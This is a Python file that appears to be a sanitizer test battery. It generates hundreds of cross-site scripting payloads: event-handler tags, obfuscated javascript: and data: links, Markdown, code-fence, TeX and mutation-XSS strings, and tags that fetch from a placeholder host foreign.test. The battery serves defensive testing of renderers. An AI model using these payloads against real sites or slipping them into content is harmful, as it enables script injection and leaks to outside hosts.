"""What a hostile answer may try (battery W02): each text would run `alert(1)` or ask `foreign.test` for something."""

from itertools import product

_RUN = "alert(1)"
_FOREIGN = "http://foreign.test/x"

_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "marquee",
         "iframe", "object data=x", "embed src=x", "math", "select autofocus", "style", "form", "button autofocus")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
_QUOTES = ('{}="{}"', "{}='{}'", "{}={}")

HANDLERS = [
    f"<{tag} {quote.format(event, _RUN)}>"
    for number, (tag, event) in enumerate(product(_TAGS, _EVENTS))
    for quote in [_QUOTES[number % 3]]
]

_SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
            "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "\x01javascript:alert(1)", "vbscript:alert(1)",
            "javascript://foreign.test/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
            "blob:http://foreign.test/1", "file:///etc/passwd", "view-source:javascript:alert(1)",
            "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "%6aavascript:alert(1)")  # fmt: skip
LINKS = [
    form.format(scheme)
    for scheme in _SCHEMES
    for form in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", '<a href="{}">x</a>', "[x]\n\n[x]: {}")
]

MARKDOWN = [
    '[x](http://a "\\" onmouseover=alert(1) x=\\"")', "[x](http://a'onclick='alert(1))", '![x" onerror="alert(1)](y)',
    '![x](y "z" onload="alert(1))', "[<img src=x onerror=alert(1)>](http://a)", '[x](http://a"><script>alert(1)</script>)',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |', "- [x] <script>alert(1)</script>",
    "# <svg onload=alert(1)>", "> <script>alert(1)</script>", "`<script>alert(1)</script>`", "~~<svg/onload=alert(1)>~~",
    "note[^x]\n\n[^x]: <img src=x onerror=alert(1)>", 'note[^"><svg/onload=alert(1)>]\n\n[^"><svg/onload=alert(1)>]: y',
    "http://a/<script>alert(1)</script>", 'http://a/"onmouseover="alert(1)', "www.a.b/'><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<script\x0c>alert(1)</script>", "<<script>alert(1)//<</script>",
]  # fmt: skip

_CODE = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</code></pre><svg onload=alert(1)>",
         'graph TD\nA["<img src=x onerror=alert(1)>"]', 'graph TD\nclick A "javascript:alert(1)"',
         '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA[<iframe srcdoc="<script>alert(1)</script>">]')  # fmt: skip
_LANGUAGES = (
    "html",
    "mermaid",
    "svg",
    "math",
    '"><script>alert(1)</script>',
    "' onclick='alert(1)",
    "<img/src=x/onerror=alert(1)>",
)
CODE = [f"```{language}\n{code}\n```" for language, code in product(_LANGUAGES, _CODE)]

_TEX = (r"\href{javascript:alert(1)}{x}", r"\text{<img src=x onerror=alert(1)>}", r"</math><svg onload=alert(1)>",
        r"\url{javascript:alert(1)}", r"\style{background:url(http://foreign.test/x)}{x}", r"\class{x onload=alert(1)}{y}",
        r"\includegraphics{http://foreign.test/x.png}", r"\mathrm{\"><script>alert(1)</script>}", r"\cssId{a}{\unknown<b>}",
        r"\color{red;background:url(http://foreign.test/x)}x", r"\begin{align}<a&href='javascript:alert(1)'\end{align}",
        r"\html{<script>alert(1)</script>}", r"\htmlData{onload=alert(1)}{x}", r"x\label{\"><svg/onload=alert(1)>}")  # fmt: skip
MATHS = [form.format(tex) for tex in _TEX for form in ("${}$", "$${}$$", r"\({}\)", "\\[\n{}\n\\]")]

MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<textarea><img title=\"</textarea><svg onload=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\">",
    "<![CDATA[><img src=x onerror=alert(1)>]]>", "<!--><img src=x onerror=alert(1)>-->", "<? foo=\"><script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>", "<math><semantics><annotation-xml><img src=x onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x", "<svg><script href=data:,alert(1)>",
    "<select><template><img src=x onerror=alert(1)>", "<a id=x><a id=x name=y>", "<base href=http://foreign.test/>", "<plaintext>",
]  # fmt: skip

REQUESTS = [form.format(_FOREIGN) for form in (
    "![x]({})", "<img src={}>", "<link rel=stylesheet href={}>", "<script src={}></script>", "<iframe src={}></iframe>",
    "<video poster={}>", "<style>@import '{}'</style>", "<p style=\"background:url({})\">", "<meta http-equiv=refresh content=0;url={}>",
    "<object data={}>", "<svg><image href={}>", "<input type=image src={}>", "<audio src={} autoplay>", "<link rel=prefetch href={}>",
    "<img srcset={}>", "<source src={}>", "<track src={}>", "<embed src={}>", "<form action={}><button>", "<body background={}>",
    "[![x]({0})]({0})", "![x][y]\n\n[y]: {}",
)]  # fmt: skip

ALL = [*HANDLERS, *LINKS, *MARKDOWN, *CODE, *MATHS, *MUTATIONS, *REQUESTS]
